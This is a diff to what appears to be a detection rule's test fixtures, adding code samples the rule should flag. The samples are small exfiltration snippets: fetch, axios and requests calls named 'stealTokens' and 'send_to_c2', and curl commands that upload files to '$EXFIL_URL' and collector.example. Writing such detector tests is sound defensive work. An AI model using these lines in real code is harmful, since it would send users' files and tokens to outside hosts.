@@ -55,6 +55,12 @@ export default defineRule({
       "a.js":
         "class Reporter {\n  async exfilFiles(list) {\n    await axios.post(this.url, list);\n  }\n}\nconst axios = require('axios');",
     },
+    {
+      "a.js":
+        'module.exports = {\n  exfiltrate: async (d) => {\n    await fetch(base, { method: "POST", body: d });\n  },\n};',
+    },
+    { "a.js": 'exports.stealTokens = function (d) {\n  return fetch(base, { method: "POST", body: d });\n};' },
+    "import requests\nsend_to_c2 = lambda d: requests.post(URL, data=d)",
     { "run.sh": 'curl -d @/tmp/out "$EXFIL_URL"' },
     { "run.sh": 'steal_keys() {\n  curl -F f=@"$1" https://collector.example\n}\nsteal_keys x' },
     {
